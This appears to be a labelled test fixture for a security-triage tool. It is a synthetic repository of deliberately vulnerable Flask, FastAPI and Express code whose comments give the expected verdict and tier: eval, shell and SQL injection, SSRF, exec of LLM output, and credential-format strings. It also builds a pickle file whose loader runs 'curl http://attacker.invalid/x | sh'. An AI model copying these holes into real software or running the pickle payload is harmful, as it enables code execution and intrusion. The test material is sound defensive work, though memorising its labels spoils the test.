"""The labelled triage set: a small repository whose findings carry the verdict and the
fix-first tier a security engineer would give them, written as `expect:` comments on the
flagged lines. Tier 1 is fixed first.

It covers what the triage must tell apart: the same sink fed by request data, by an LLM's
reply, by a parameter, or by constants; code in tests, docs and examples; dead code;
configuration mistakes; committed credentials (real-format and placeholder); a model file
that runs code when loaded.
"""

from __future__ import annotations

import pickle
import re
from dataclasses import dataclass

TP, REVIEW, FP = "likely_true_positive", "needs_review", "likely_false_positive"
_LABEL = re.compile(r"expect:\s*(tp|review|fp)\s+tier=(\d)")
_VERDICTS = {"tp": TP, "review": REVIEW, "fp": FP}


class _RunsCommand:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("curl http://attacker.invalid/x | sh",))


FILES: dict[str, str | bytes] = {
    "app/routes.py": """\
import os
import re
import shlex
import subprocess
import sqlite3

import requests
from flask import Flask, request

app = Flask(__name__)
ALLOWED = "uptime"


@app.route("/calc", methods=["POST"])
def calc():
    expression = request.form["expression"]
    return str(eval(expression))  # expect: tp tier=1


@app.route("/ping")
def ping():
    host = request.args.get("host", "localhost")
    os.system(f"ping -c 1 {host}")  # expect: tp tier=1
    return "ok"


@app.route("/users/<user_id>")
def user(user_id):
    db = sqlite3.connect("app.db")
    rows = db.execute(f"SELECT * FROM users WHERE id = {user_id}")  # expect: tp tier=1
    return str(rows.fetchall())


@app.route("/fetch")
def fetch():
    return requests.get(request.args["url"]).text  # expect: tp tier=2


@app.route("/status")
def status():
    command = "uptime"
    subprocess.run(command, shell=True)  # expect: fp tier=4
    os.system(ALLOWED + " --pretty")  # expect: fp tier=4
    return "up"


@app.route("/lookup")
def lookup():
    user_id = int(request.args["id"])
    db = sqlite3.connect("app.db")
    rows = db.execute(f"SELECT name FROM users WHERE id = {user_id}")  # expect: fp tier=4
    return str(rows.fetchall())


@app.route("/trace")
def trace():
    host = shlex.quote(request.args["host"])
    os.system("traceroute " + host)  # expect: fp tier=4
    return "ok"


@app.route("/render")
def render():
    template = request.args.get("name", "")
    page = "<h1>" + template.upper() + "</h1>"
    return eval(f"'{page}'")  # expect: tp tier=1


def legacy(expression):
    if False:
        return eval(expression)  # expect: fp tier=4
    return None


def cleanup(path):
    return True
    os.system(f"rm -rf {path}")  # expect: fp tier=4


def run_job(spec):
    subprocess.run(f"make {spec}", shell=True)  # expect: review tier=3


# Harder cases, labelled as an engineer would; the analysis is not expected to get them all
# right (it follows no calls and knows no validation idioms).
@app.route("/build")
def build():
    return deploy(request.args["target"])


def deploy(target):
    subprocess.run(f"deploy.sh {target}", shell=True)  # expect: tp tier=1


@app.route("/probe")
def probe():
    host = request.args["host"]
    if not re.fullmatch(r"[a-z0-9.-]{1,64}", host):
        return "bad host", 400
    os.system(f"ping -c 1 {host}")  # expect: fp tier=4
    return "ok"
""",
    "app/assistant.py": """\
import json
import subprocess

from fastapi import FastAPI
from openai import OpenAI

api = FastAPI()
client = OpenAI()


@api.post("/ask")
def ask(question: str):
    reply = client.chat.completions.create(  # expect: tp tier=3
        model="gpt-4o-mini",
        messages=[{"role": "system", "content": f"Act as {question}."}],  # expect: tp tier=2
    )
    code = reply.choices[0].message.content
    exec(code)  # expect: tp tier=1
    return {"ok": True}


def plan(task):
    answer = client.chat.completions.create(  # expect: review tier=3
        model="gpt-4o-mini", messages=[{"role": "user", "content": task}]
    )
    command = answer.choices[0].message.content
    subprocess.run(command, shell=True)  # expect: tp tier=1
""",
    "app/http_client.py": """\
import requests


def download(url):
    return requests.get(url, verify=False)  # expect: tp tier=2
""",
    "app/config.py": """\
AWS_ACCESS_KEY_ID = "AKIAZ3MXQ7VLR2TW5HNE"  # expect: tp tier=1
""",
    "server/index.js": """\
const express = require("express");
const { exec } = require("child_process");
const app = express();

app.post("/report", async (req, res) => {
  const name = req.body.name;
  const rows = await db.query(`SELECT * FROM reports WHERE name = '${name}'`); // expect: tp tier=1
  res.json(rows);
});

app.get("/convert", (req, res) => {
  exec(`convert ${req.query.file} out.png`); // expect: tp tier=1
  res.send("ok");
});

function nightly() {
  const table = "reports";
  return db.query(`DELETE FROM ${table} WHERE age > 30`); // expect: fp tier=4
}
""",
    "tests/test_routes.py": """\
import os


def test_ping(client, request):
    host = request.param
    os.system(f"ping -c 1 {host}")  # expect: fp tier=4


def test_calc(expr):
    assert eval(expr) == 2  # expect: fp tier=4
""",
    "tests/fixtures/keys.py": """\
GITHUB_TOKEN = "ghp_Q8mZ2rT5vX9kL3nB7cW1yH4dF6gJ0sA2eR5t"  # expect: review tier=3
""",
    "docs/setup.md": """\
Set your key in the environment:

    api_key = "Vq83kLm2Zx91TpRw4Yd7"  # expect: fp tier=4
""",
    "examples/calculator.py": """\
def main():
    print(eval(input("expression: ")))  # expect: review tier=3
""",
    "models/classifier.pkl": pickle.dumps(_RunsCommand(), protocol=4),
}

# Model files have no lines to put a comment on.
BINARY_LABELS = {("models/classifier.pkl", 1): (TP, 1)}


@dataclass(frozen=True)
class Label:
    path: str
    line: int
    verdict: str
    tier: int


def labels() -> list[Label]:
    found = []
    for path, content in FILES.items():
        if isinstance(content, bytes):
            continue
        for number, line in enumerate(content.splitlines(), start=1):
            match = _LABEL.search(line)
            if match:
                found.append(Label(path, number, _VERDICTS[match.group(1)], int(match.group(2))))
    for (path, line), (verdict, tier) in BINARY_LABELS.items():
        found.append(Label(path, line, verdict, tier))
    return found
